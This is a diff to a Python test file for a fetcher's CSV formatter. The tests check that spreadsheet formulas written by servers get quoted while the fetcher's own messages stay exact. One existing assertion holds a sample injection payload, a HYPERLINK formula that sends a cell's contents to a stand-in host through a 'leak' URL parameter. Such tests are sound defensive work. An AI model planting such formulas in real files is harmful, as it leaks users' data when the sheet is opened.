@@ -14,6 +14,7 @@ import io
 
 import pytest
 
+from fetcher.errors import ErrorKind
 from fetcher.input.jobs import Job
 from fetcher.output.records import CSV_FIELDS, CsvFormatter
 from fetcher.results import Result
@@ -59,3 +60,13 @@ def test_a_servers_formula_in_a_results_file_is_not_one(tmp_path) -> None:
     assert row["reason"] == '\'=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"Not Found")', row
     assert row["content_type"] == "'@SUM(1+1)", row
     assert row["error_message"].startswith("404 "), row
+
+
+def test_the_cells_fetcher_writes_itself_are_exact() -> None:
+    """'--max-time of 2 s reached' and a path under -o +dl came back with a ' first (s29 r2
+    6): only what a server or a list wrote is quoted."""
+    result = Result(Job(seq=1, url="http://h/a", target="http://h/a", line=1, raw=b"http://h/a"))
+    result.error_kind, result.error_message = ErrorKind.MAX_TIME, "--max-time of 2 s reached"
+    result.path = "+dl/h/a"
+    row = row_of(CsvFormatter()(result))
+    assert (row["error_message"], row["path"]) == ("--max-time of 2 s reached", "+dl/h/a"), row
